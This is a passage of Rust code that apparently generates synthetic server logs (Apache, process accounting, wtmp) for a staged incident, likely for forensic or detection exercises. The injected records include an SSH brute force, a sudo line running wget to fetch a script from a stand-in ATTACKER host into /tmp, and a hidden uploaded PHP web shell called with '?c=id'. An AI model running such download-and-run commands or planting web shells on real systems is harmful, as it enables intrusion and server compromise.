        let _ = writeln!(
            self.buf,
            "{ip} - {user} [{ts}] \"{req}\" {status} {bytes} \"{referer}\" \"{ua}\""
        );
        1
    }

    fn pacct(&mut self, end: i64, comm: &str, uid: u32, pid: u32, tty: u16) {
        let etime = self.rng.below(5000) as f32 / 100.0;
        let btime = (end - etime as i64).max(0) as u32;
        let mut r = [0u8; 64];
        let flags: u8 = if comm == "sudo" || comm == "su" {
            0x02
        } else if self.rng.chance(0.2) {
            0x01
        } else {
            0
        };
        r[0] = flags;
        r[1] = 3;
        r[2..4].copy_from_slice(&tty.to_le_bytes());
        r[4..8].copy_from_slice(&0u32.to_le_bytes());
        r[8..12].copy_from_slice(&uid.to_le_bytes());
        r[12..16].copy_from_slice(&uid.to_le_bytes());
        r[16..20].copy_from_slice(&pid.to_le_bytes());
        r[20..24]
            .copy_from_slice(&(pid.saturating_sub(1 + self.rng.below(50) as u32)).to_le_bytes());
        r[24..28].copy_from_slice(&btime.to_le_bytes());
        r[28..32].copy_from_slice(&etime.to_le_bytes());
        for (i, v) in [
            self.rng.below(300),
            self.rng.below(100),
            self.rng.below(8000),
            0,
            0,
            self.rng.below(900),
            0,
            0,
        ]
        .iter()
        .enumerate()
        {
            let o = 32 + 2 * i;
            r[o..o + 2].copy_from_slice(&(*v as u16).to_le_bytes());
        }
        let c = comm.as_bytes();
        let n = c.len().min(16);
        r[48..48 + n].copy_from_slice(&c[..n]);
        self.buf.extend_from_slice(&r);
    }

    #[allow(clippy::too_many_arguments)]
    fn utmp(&mut self, secs: i64, ty: i16, pid: u32, line: &str, id: &str, user: &str, host: &str) {
        let mut r = [0u8; 384];
        r[0..2].copy_from_slice(&ty.to_le_bytes());
        r[4..8].copy_from_slice(&pid.to_le_bytes());
        let put = |r: &mut [u8; 384], off: usize, len: usize, s: &str| {
            let b = s.as_bytes();
            let n = b.len().min(len);
            r[off..off + n].copy_from_slice(&b[..n]);
        };
        put(&mut r, 8, 32, line);
        put(&mut r, 40, 4, id);
        put(&mut r, 44, 32, user);
        put(&mut r, 76, 256, host);
        r[336..340].copy_from_slice(&(pid as i32).to_le_bytes());
        r[340..344].copy_from_slice(&(secs as i32).to_le_bytes());
        r[344..348].copy_from_slice(&(self.rng.below(1_000_000) as i32).to_le_bytes());
        if let Ok(std::net::IpAddr::V4(a)) = host.parse::<std::net::IpAddr>() {
            r[348..352].copy_from_slice(&a.octets());
        }
        self.buf.extend_from_slice(&r);
    }

    fn wtmp(&mut self, now: i64) -> u64 {
        if self.rng.chance(0.01) {
            self.utmp(now, 2, 0, "~", "~~", "reboot", "6.1.0-31-amd64");
            return 1;
        }
        if self.sessions.len() > 3 || (!self.sessions.is_empty() && self.rng.chance(0.5)) {
            let (line, _, _, pid) = self.sessions.remove(0);
            let id = line.trim_start_matches("pts/").to_string();
            self.utmp(now, 8, pid, &line, &id, "", "");
            return 1;
        }
        let user = self.rng.pick(USERS);
        let ip = self.ip();
        let ip = if ip.contains(':') { "192.0.2.44".to_string() } else { ip };
        let line = format!("pts/{}", self.seq % 64);
        self.seq += 1;
        let pid = self.pid();
        let id = line.trim_start_matches("pts/").to_string();
        self.utmp(now, 7, pid, &line, &id, user, &ip);
        self.sessions.push((line, user.to_string(), ip, pid));
        1
    }

    /// The incident's records in this stream (only `web01` and `mx` hold any).
    fn incident(&mut self, now: i64) -> Option<u64> {
        match (self.host, self.kind, self.topic) {
            ("web01", Kind::SyslogRfc3339, Topic::Auth) => {
                let pid = 4_123_456;
                for i in 0..40 {
                    self.line(
                        now + i,
                        "sshd",
                        Some(pid + i as u32),
                        &format!(
                            "Failed password for {VICTIM} from {ATTACKER} port {} ssh2",
                            40_000 + i
                        ),
                    );
                }
                self.line(
                    now + 60,
                    "sshd",
                    Some(4_123_600),
                    &format!("Accepted password for {VICTIM} from {ATTACKER} port 40100 ssh2"),
                );
                self.line(now + 60, "sshd", Some(4_123_600), &format!("pam_unix(sshd:session): session opened for user {VICTIM}(uid=1100) by (uid=0)"));
                self.line(now + 95, "sudo", None, &format!("  {VICTIM} : TTY=pts/3 ; PWD=/home/{VICTIM} ; USER=root ; COMMAND=/usr/bin/wget -q -O /tmp/.x http://{ATTACKER}/x.sh"));
                self.line(now + 95, "sudo", None, &format!("pam_unix(sudo:session): session opened for user root(uid=0) by {VICTIM}(uid=1100)"));
                self.line(
                    now + 96,
                    "sudo",
                    None,
                    "pam_unix(sudo:session): session closed for user root",
                );
                Some(45)
            }
            ("web01", Kind::Apache, _) => {
                self.access(
                    now + 120,
                    Some(("POST", "/wp-admin/admin-ajax.php?action=upload", 200)),
                );
                self.access(now + 130, Some(("GET", "/wp-content/uploads/.cache/x.php?c=id", 200)));
                Some(2)
            }
            ("web01", Kind::Pacct, _) => {
                self.pacct(now + 96, "wget", 0, 4_123_700, 0x8803);
                self.pacct(now + 100, "sh", 0, 4_123_701, 0x8803);
                self.pacct(now + 131, "id", 33, 4_123_702, 0);
                Some(3)
            }
            ("web01", Kind::Wtmp, _) => {
                self.utmp(now + 60, 7, 4_123_600, "pts/3", "3", VICTIM, ATTACKER);
                Some(1)
            }
            ("mx", Kind::Postfix, _) => Some(self.postfix(now + 200, Some(ATTACKER))),
            _ => None,
        }
    }
}
